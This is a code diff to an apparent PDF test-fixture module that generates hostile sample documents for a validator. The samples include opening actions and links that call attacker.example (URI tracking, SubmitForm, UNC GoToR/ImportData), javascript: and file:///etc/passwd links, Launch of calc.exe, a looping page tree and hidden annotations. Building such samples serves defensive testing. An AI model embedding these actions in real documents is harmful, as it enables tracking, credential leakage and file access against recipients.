@@ -8,7 +8,7 @@ import path from 'node:path';
 import { monitorEventLoopDelay } from 'node:perf_hooks';
 import zlib from 'node:zlib';
 import {
-  PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString, StandardFonts, concatTransformationMatrix, drawObject,
+  PDFArray, PDFDict, PDFDocument, PDFName, PDFRawStream, PDFString, type PDFObject, StandardFonts, concatTransformationMatrix, drawObject,
   popGraphicsState, pushGraphicsState,
 } from 'pdf-lib';
 import sharp from 'sharp';
@@ -110,10 +110,28 @@ export function appendObject(pdf: Buffer, object: (num: number) => Buffer): Buff
 export const flateObject = (data: Buffer, extra = '') => (num: number) =>
   Buffer.concat([Buffer.from(`${num} 0 obj\n<< /Length ${data.length} /Filter /FlateDecode ${extra}>>\nstream\n`, 'latin1'), data, Buffer.from('\nendstream\nendobj\n')]);
 
+export type ActiveContent = 'javascript' | 'launch' | 'embedded-file' | 'xfa'
+  | 'uri-on-opening' | 'submit-form' | 'gotor-unc' | 'import-data' | 'javascript-uri-link' | 'file-uri-link' | 'uri-on-page-open' | 'goto-then-uri';
+
 /** Our mandate with active content of one kind (and an ink signature, so that nothing else refuses it). */
-export async function withActiveContent(pdf: Uint8Array, kind: 'javascript' | 'launch' | 'embedded-file' | 'xfa'): Promise<Uint8Array> {
+export async function withActiveContent(pdf: Uint8Array, kind: ActiveContent): Promise<Uint8Array> {
   const doc = await PDFDocument.load(await inkSigned(pdf));
   const ctx = doc.context;
+  const link = (action: PDFObject) =>
+    doc.getPage(0).node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], A: action })));
+  const page0 = doc.getPage(0).ref;
+  if (kind === 'uri-on-opening') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'URI', URI: PDFString.of('https://attacker.example/track?m=1') }));
+  if (kind === 'submit-form') {
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'SubmitForm', F: { FS: 'URL', F: PDFString.of('https://attacker.example/collect') } }));
+  }
+  if (kind === 'gotor-unc') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'GoToR', F: PDFString.of('\\\\attacker.example\\share\\x.pdf'), D: [0, 'Fit'] }));
+  if (kind === 'import-data') link(ctx.obj({ S: 'ImportData', F: PDFString.of('\\\\attacker.example\\x.fdf') }));
+  if (kind === 'javascript-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('javascript:alert(1)') }));
+  if (kind === 'file-uri-link') link(ctx.obj({ S: 'URI', URI: PDFString.of('file:///etc/passwd') }));
+  if (kind === 'uri-on-page-open') doc.getPage(0).node.set(PDFName.of('AA'), ctx.obj({ O: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
+  if (kind === 'goto-then-uri') {
+    doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'GoTo', D: [page0, 'Fit'], Next: { S: 'URI', URI: PDFString.of('https://attacker.example/') } }));
+  }
   if (kind === 'javascript') doc.catalog.set(PDFName.of('OpenAction'), ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') }));
   if (kind === 'launch') {
     const link = ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [56, 56, 200, 80], A: { S: 'Launch', F: PDFString.of('calc.exe') } }));
@@ -126,6 +144,77 @@ export async function withActiveContent(pdf: Uint8Array, kind: 'javascript' | 'l
   }
   return doc.save();
 }
+
+/** Our mandate with a plain web link and an opening action that shows its first page: what ordinary PDFs hold. */
+export async function withWebLink(pdf: Uint8Array): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(await inkSigned(pdf));
+  const ctx = doc.context;
+  doc.getPage(0).node.addAnnot(ctx.register(ctx.obj({
+    Type: 'Annot', Subtype: 'Link', Rect: [56, 56, 200, 80], A: { S: 'URI', URI: PDFString.of('https://annuaire.example.gouv.fr/') },
+  })));
+  doc.catalog.set(PDFName.of('OpenAction'), ctx.obj([doc.getPage(0).ref, PDFName.of('Fit')]));
+  return doc.save();
+}
+
+/**
+ * Our mandate with an Ink or Stamp annotation no reader shows, and nothing else: a Stamp flagged Hidden without
+ * appearance, an Ink of no size with no strokes, an Ink flagged NoView, an Ink whose appearance draws nothing, an
+ * Ink off the page, an Invisible Stamp with no appearance.
+ */
+export async function withUnseenAnnotation(
+  pdf: Uint8Array, kind: 'hidden-stamp' | 'empty-ink' | 'noview-ink' | 'blank-appearance' | 'off-page-ink' | 'invisible-stamp',
+): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(pdf);
+  const ctx = doc.context;
+  const strokes = [[330, 130, 400, 170, 500, 140]];
+  const appearance = (content: string) =>
+    ctx.register(ctx.stream(content, { Type: 'XObject', Subtype: 'Form', BBox: [320, 120, 520, 180] }));
+  const annot = {
+    'hidden-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 2 },
+    'empty-ink': { Subtype: 'Ink', Rect: [0, 0, 0, 0], InkList: [] },
+    'noview-ink': { Subtype: 'Ink', Rect: [320, 120, 520, 180], F: 32, InkList: strokes, AP: { N: appearance('330 130 m 500 140 l S') } },
+    'blank-appearance': { Subtype: 'Ink', Rect: [320, 120, 520, 180], InkList: strokes, AP: { N: appearance('q 0 0 1 rg Q') } },
+    'off-page-ink': { Subtype: 'Ink', Rect: [-5320, -5120, -5120, -5060], InkList: [[-5310, -5110, -5130, -5070]] },
+    'invisible-stamp': { Subtype: 'Stamp', Rect: [330, 120, 530, 180], F: 1, Name: 'Approved' },
+  }[kind];
+  doc.getPage(doc.getPageCount() - 1).node.addAnnot(ctx.register(ctx.obj({ Type: 'Annot', ...annot })));
+  return doc.save();
+}
+
+/** Our mandate (with an ink signature) with `times` inline images of `head` parameters, in a content stream of its own. */
+export async function withInlineImage(pdf: Uint8Array, head: string, times = 1): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(await inkSigned(pdf));
+  const image = Buffer.concat([Buffer.from(`BI ${head} ID `), new Uint8Array(16), Buffer.from('\nEI ')]);
+  const body = Buffer.concat([Buffer.from('q 200 0 0 60 330 120 cm '), ...Array.from({ length: times }, () => image), Buffer.from('Q\n')]);
+  doc.getPage(0).node.addContentStream(doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, body)));
+  return doc.save();
+}
+
+/**
+ * Our mandate (with an ink signature) with `times` inline images each begun in one content stream of the page and
+ * ended in the next (a reader reads a page's streams as one): no stream alone holds a whole image.
+ */
+export async function withSplitInlineImages(pdf: Uint8Array, head: [string, string], times: number): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(await inkSigned(pdf));
+  for (let n = 0; n < times; n++) {
+    for (const part of [`q 200 0 0 60 330 120 cm BI ${head[0]}`, `${head[1]} ID \x00\nEI Q`]) {
+      doc.getPage(0).node.addContentStream(doc.context.register(PDFRawStream.of(doc.context.obj({}) as PDFDict, Buffer.from(part, 'latin1'))));
+    }
+  }
+  return doc.save();
+}
+
+/** Our mandate (with an ink signature) whose page tree loops: the root's kids hold the root. */
+export async function withPageTreeLoop(pdf: Uint8Array): Promise<Uint8Array> {
+  const doc = await PDFDocument.load(await inkSigned(pdf));
+  const root = doc.catalog.lookup(PDFName.of('Pages'), PDFDict);
+  root.lookup(PDFName.of('Kids'), PDFArray).push(doc.catalog.get(PDFName.of('Pages'))!);
+  return doc.save({ addDefaultPage: false }); // counting the pages would loop here too
+}
+
+/** Our mandate (with an ink signature), encrypted with a password to open it (AES-256, by qpdf). */
+export const passwordProtected = async (pdf: Uint8Array) =>
+  tool('qpdf', await inkSigned(pdf), (i, o) => ['--encrypt', 'secret', 'owner-secret', '256', '--', i, o]);
 
 /** A 12-megapixel phone photo (4032 × 3024 JPEG) of something card-like, under 4 MB. */
 export async function phonePhoto(): Promise<Buffer> {
